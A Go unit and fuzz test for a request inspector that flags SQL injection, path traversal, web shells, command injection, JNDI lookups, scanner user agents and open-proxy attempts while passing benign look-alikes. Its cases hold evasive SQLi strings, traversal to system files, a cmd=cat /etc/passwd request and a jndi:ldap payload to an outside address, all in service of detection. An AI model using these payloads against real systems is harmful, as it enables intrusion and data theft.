package inspect

import (
	"strings"
	"testing"
)

// TestRequest: attacks and what looks like them.
func TestRequest(t *testing.T) {
	for name, c := range map[string]struct {
		method, target, referrer, agent string
		want                            Attack
	}{
		"a page":                    {target: "/MAAS/r/machines?sort=name&limit=50"},
		"an address in a parameter": {target: "/login?next=https%3A%2F%2Fmaas.example%2FMAAS%2Fr%2F"},
		"an oauth signature":        {target: "/MAAS/api/2.0/machines/?op=allocate&name=a-b_c.d&oauth_signature=%26x%3D"},
		"JSON in a parameter":       {target: "/x?filter=%7B%22name%22%3A%22rack+and+roll%22%7D"},
		"an apostrophe":             {target: "/x?q=it%27s+not+or+is+it"},
		"union, encoded twice":      {target: "/x?id=1%2527%2520union%2520select%25201,2--", want: SQLi},
		"full-width quote":          {target: "/x?id=1%uff07+or+1%3D1--+-", want: SQLi},
		"in comments":               {target: "/x?id=1/**/union/*!50000select*/1,2,3", want: SQLi},
		"in a referrer":             {target: "/", referrer: "https://a.example/?id=1%27+union+select+1,2--", want: SQLi},
		"in a name":                 {target: "/x?id%27+or+1%3D1--+-=1", want: SQLi},
		"a dot segment":             {target: "/a/../b"},
		"dot segments that leave":   {target: "/a/../../etc/hosts", want: Traversal},
		"with backslashes":          {target: "/x?f=..%5c..%5cboot.ini", want: Traversal},
		"a version range":           {target: "/x/compare/v1.2...v1.3"},
		"a shell":                   {target: "/uploads/c99.php", want: Shell},
		"a class":                   {target: "/includes/ShellParser.php"},
		"a command":                 {target: "/img/x.php?cmd=cat+/etc/passwd", want: Shell | Command | Traversal},
		"a search for a command":    {target: "/search?q=how+to+use+wget"},
		"a lookup":                  {target: "/", agent: "${jndi:ldap://203.0.113.9/a}", want: Exploit},
		"a scanner":                 {target: "/", agent: "sqlmap/1.8", want: Agent},
		"one that says compatible":  {target: "/", agent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", want: Agent},
		"a browser":                 {target: "/", agent: "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"},
		"a search engine":           {target: "/", agent: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"},
		"no HTTP":                   {target: `\x16\x03\x01`, want: Malformed},
		"behind harmless values":    {target: "/x?" + strings.Repeat("a=1&", 50) + "id=1%27+or+1%3D1--+-", want: SQLi},
		"behind much text":          {target: "/x?id=" + strings.Repeat("a", 3000) + "%27+or+1%3D1--+-", want: SQLi},
		"where two pieces meet":     {target: "/x?id=" + strings.Repeat("a", MaxValue-4) + "%27+or+1%3D1--+-", want: SQLi},
		"behind many tokens":        {target: "/x?id=" + strings.Repeat("1,", 200) + "1%3Bdrop+table+x", want: SQLi},
		"much prose":                {target: "/x?q=" + strings.Repeat("this+or+that,+and+it%27s+", 250)},
		"separators without end":    {target: "/x?q=" + strings.Repeat("|", 2000)},
		"and a command behind them": {target: "/x?q=" + strings.Repeat("|", 2000) + "cat+/a", want: Command},
		"a prose word, a command":   {target: "/x?q=a|set+x||cat+/a", want: Command},
		"another's page":            {method: "CONNECT", target: "mail.example:25", want: OpenProxy},
	} {
		t.Run(name, func(t *testing.T) {
			method := c.method
			if method == "" && c.want != Malformed {
				method = "GET"
			}
			var in Inspector
			if got := in.Request(method, c.target, c.referrer, c.agent); got != c.want {
				t.Errorf("%v, want %v", got, c.want)
			}
		})
	}
}

// FuzzRequest: no request panics, and none costs more than its bounds allow.
func FuzzRequest(f *testing.F) {
	f.Add("GET", "/x?id=1%27%20or%201=1--", "-", "Mozilla")
	f.Add("GET", "/x?"+strings.Repeat("(", 1000), "", "${jndi:")
	f.Add("POST", "/%25%32%65%uff0e/..\\x2f", "http://a/?b=%00", "\x00")
	var in Inspector
	f.Fuzz(func(_ *testing.T, method, target, referrer, agent string) {
		in.Request(method, target, referrer, agent)
	})
}
